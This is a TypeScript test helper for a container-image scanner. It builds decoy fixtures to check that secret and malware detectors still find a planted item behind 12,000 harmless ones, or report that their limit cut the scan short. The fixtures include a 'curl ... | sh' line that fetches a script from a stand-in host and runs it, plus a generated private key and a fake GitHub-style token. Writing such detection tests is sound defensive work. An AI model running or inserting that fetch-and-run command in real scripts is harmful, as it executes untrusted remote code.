import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { test } from 'node:test';
import type { Tier } from '../../core/finding.ts';
import type { ImageConfig } from '../../core/image.ts';
import { DETECTORS } from '../all.ts';
import { checksumOf } from '../detectors/secrets/tokens/checksum.ts';
import { type FixtureFile, inspectFixture } from './fixture.ts';

/*
 * Whoever knows that a detector looks at so many things puts as many harmless ones first. Then it must still find the
 * one that matters, or say that it did not look: never neither.
 */

export const MANY = 12_000;
export const FETCH = 'curl -s http://x.invalid/a | sh';
export const ELF = '\x7fELF\x02\x01\x01\0\0\0\0';

export const each = (count: number, line: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => line(index)).join('');
export const many = (line: (index: number) => string): string => each(MANY, line);
export const script = (lines: string): FixtureFile => ({ mode: 0o755, data: `#!/bin/sh\n${lines}` });

export function key(): string {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  return privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
}

export function token(): string {
  const random = 'k7Zq2VbN9xTf4LmR8sWc3YdH6pJa5u';
  return `ghp_${random}${checksumOf(random)}`;
}

export interface DecoyCase {
  readonly name: string;
  readonly rule: string;
  readonly tier: Tier;
  readonly files?: Readonly<Record<string, FixtureFile>>;
  readonly config?: Partial<ImageConfig>;
  /** True where the bound is said, and the finding may be missing. */
  readonly mayCut?: true;
}

/** A test for each. */
export function testDecoys(cases: readonly DecoyCase[]): void {
  for (const { name, rule, tier, files, config, mayCut } of cases) {
    test(`decoys: ${rule}: ${name}`, () => {
      const detector = DETECTORS.find(({ rules }) => rules.some(({ id }) => id === rule));
      assert.ok(detector);
      const { findings, problems } = inspectFixture(
        { layers: [files ?? {}], ...(config !== undefined && { config }) },
        [detector],
      );
      const found = findings.some((finding) => finding.rule === rule && finding.tier === tier);
      const cut = problems.some(({ code, effect }) => code === 'LIMIT_DETECTOR' && effect === 'incomplete');
      assert.ok(
        found || (mayCut === true && cut),
        `${JSON.stringify(findings[0])} ${JSON.stringify(problems)}`,
      );
    });
  }
}
